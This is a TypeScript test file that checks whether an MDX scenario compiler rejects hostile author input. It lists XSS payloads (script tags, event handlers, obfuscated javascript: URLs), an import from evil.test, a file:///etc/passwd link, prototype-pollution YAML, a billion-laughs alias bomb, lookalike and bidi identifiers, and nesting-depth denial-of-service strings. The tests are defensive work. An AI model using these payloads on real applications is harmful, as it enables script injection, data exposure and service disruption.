import { describe, expect, test } from 'vitest';
import type { Block, Inline } from '../model/richText.ts';
import type { Script } from '../model/scenario.ts';
import { compile } from './compile.ts';
import { compileInBrowser } from './compileInBrowser.ts';
import { exampleReferences, readFrame } from './diagnostics/frame/findingsOf.ts';

const frame = readFrame('id');
const line = 'Jadi paketnya di mana?';
const field = 'level: 1\n';

/** The sound scenario with something of a stranger's in the place of one text. */
const said = (text: string): string => frame.replace(line, () => text);
const inFront = (yaml: string): string => frame.replace(field, () => `${field}${yaml}\n`);
const renamed = (from: string, to: string): string => frame.replaceAll(`"${from}"`, `"${to}"`);

const billion = `a: &a [x, x, x, x, x, x, x, x, x]\n${[...'bcdefghi']
  .map((name, at) => `${name}: &${name} [${Array(9).fill(`*${'abcdefgh'[at]}`).join(', ')}]`)
  .join('\n')}`;

/** Texts that strangers may send in, each with a diagnostic that must be among the answers. */
const attacks: Readonly<Record<string, readonly [text: string, id: string]>> = {
  'a script': [said('<script>globalThis.canary = 1</script>'), 'forbidden-code'],
  'an image with a handler': [said('<img src="x" onerror="globalThis.canary = 1" />'), 'forbidden-code'],
  'an element of SVG': [said('<svg onload="globalThis.canary = 1"></svg>'), 'forbidden-code'],
  'an element with a name of the language': [said('<constructor>x</constructor>'), 'forbidden-code'],
  'a handler on an element of the language': [
    frame.replace('<Customer>', '<Customer onClick="globalThis.canary = 1">'),
    'unknown-attribute',
  ],
  'an expression': [said('{globalThis.canary = 1}'), 'forbidden-code'],
  'an expression as an attribute': [
    frame.replace('id="periksa"', 'id={globalThis.canary = 1}'),
    'forbidden-code',
  ],
  'attributes from an expression': [
    frame.replace('<Customer>', '<Customer {...globalThis}>'),
    'forbidden-code',
  ],
  'an import': [`${frame}\nimport x from 'https://evil.test/x.js'\n`, 'forbidden-code'],
  'an export': [`${frame}\nexport const x = (globalThis.canary = 1)\n`, 'forbidden-code'],
  'a script address': [said('[a](javascript:globalThis.canary=1)'), 'forbidden-code'],
  'a script address in capitals': [said('[a](JaVaScRiPt:globalThis.canary=1)'), 'forbidden-code'],
  'a script address in character references': [
    said('[a](&#106;&#x61;vascript&colon;globalThis.canary=1)'),
    'forbidden-code',
  ],
  'a script address behind control characters': [
    said('[a](<&#1;java&Tab;script:globalThis.canary=1>)'),
    'syntax',
  ],
  'a script address by reference': [said('[a][b]\n\n[b]: javascript:globalThis.canary=1'), 'syntax'],
  'a page in an address': [said('[a](data:text/html,<script>1</script>)'), 'forbidden-code'],
  'a file of the reader': [said('[a](file:///etc/passwd)'), 'forbidden-code'],
  'an address without its scheme': [said('[a](//evil.test/x)'), 'unknown-reference'],
  'an address above the site': [said('[a](../../../evil)'), 'unknown-reference'],
  'an image of another host': [said('![a](https://evil.test/pixel.png)'), 'unknown-element'],
  'ids with signs that nobody sees': [renamed('periksa', 'peri\u200bksa'), 'invalid-value'],
  'ids with signs that turn the text': [renamed('periksa', '\u202easkirep'), 'invalid-value'],
  'ids of other letters that look the same': [renamed('periksa', 'periks\u0430'), 'invalid-value'],
  'the prototype as an id': [renamed('periksa', '__proto__'), 'invalid-value'],
  'a target that only the language has': [frame.replace('to="solusi"', 'to="constructor"'), 'unknown-target'],
  'a behaviour that only the language has': [
    frame.replace('does="silent-hold"', 'does="constructor"'),
    'unknown-behaviour',
  ],
  'a mood that only the language has': [
    frame.replace('<Customer>', '<Customer mood="constructor">'),
    'invalid-value',
  ],
  'an attribute that only the language has': [
    frame.replace('<Customer>', '<Customer constructor="x" __proto__="y">'),
    'unknown-attribute',
  ],
  'the prototype in the front matter': [inFront('__proto__: { polluted: true }'), 'front-matter'],
  'the constructor in the front matter': [
    inFront('constructor: { prototype: { polluted: true } }'),
    'front-matter',
  ],
  'an object of another language in the front matter': [
    inFront('persona: !!js/regexp { a: 1 }'),
    'front-matter',
  ],
  'aliases that multiply': [inFront(billion), 'front-matter'],
  'deep brackets in the front matter': [inFront(`tags: ${'['.repeat(9_000)}`), 'front-matter'],
  'ten megabytes of text': [said('a '.repeat(5_000_000)), 'too-large'],
  'ten megabytes of front matter': [inFront(`tags: [${'a, '.repeat(3_500_000)}]`), 'too-large'],
  'ten thousand scenes, each in the last': [said('<Scene id="a">\n\n'.repeat(10_000)), 'syntax'],
  'thousands of marks of emphasis': [said('*a_'.repeat(13_000)), 'syntax'],
  'deep quotes': [said(`\n\n${'> '.repeat(9_000)}x`), 'syntax'],
  'deep lists': [
    said(`\n\n${Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')}`),
    'syntax',
  ],
};

const options = { file: 'x.mdx', language: 'id', cap: 20_000 } as const;
/** Milliseconds within which every attack is answered, on a busy machine. */
const patience = 5_000;

describe.each([
  ['the native parser', compile],
  ["the browser's parser", compileInBrowser],
] as const)('%s', (_, compileText) => {
  for (const [name, [text, id]] of Object.entries(attacks)) {
    test(`${name} is answered with ${id}`, () => {
      const began = performance.now();
      const { script, diagnostics } = compileText(text, { ...options, references: exampleReferences });
      expect(performance.now() - began).toBeLessThan(patience);
      expect(diagnostics.map((diagnostic) => diagnostic.id)).toContain(id);
      expect(schemesIn(script)).toEqual([]);
      expect(Reflect.get(globalThis, 'canary')).toBeUndefined();
      expect(Reflect.get({}, 'polluted')).toBeUndefined();
    });
  }

  test('names of the language that are allowed as ids mean nothing special', () => {
    const named = ['periksa', 'gali', 'resi'].reduce(
      (text, name) => text.replaceAll(`"${name}"`, '"constructor"'),
      frame,
    );
    const [plain, hostile] = [frame, named].map((text) => compileText(text, options));
    expect(hostile?.diagnostics).toEqual([]);
    expect(hostile?.scenario?.model.points).toEqual(plain?.scenario?.model.points);
    expect(plain?.scenario?.model.points).toBeDefined();
  });

  test('text that turns or hides stays the text of its own paragraph', () => {
    const { script } = compileText(said('Baik\u202e kudnas \u2066\u200b'), options);
    expect(JSON.stringify(script)).toContain('Baik\u202e kudnas');
  });
});

/** Schemes of all links in a script that are neither of the web nor of mail. */
function schemesIn(script: Script | undefined): readonly string[] {
  const found: string[] = [];
  JSON.stringify(script ?? null, (_, value: Block | Inline | unknown) => {
    if (isUrl(value) && !/^(https?|mailto):/.test(value.href)) found.push(value.href);
    return value;
  });
  return found;
}

function isUrl(value: unknown): value is { readonly href: string } {
  return typeof value === 'object' && value !== null && 'href' in value && typeof value.href === 'string';
}
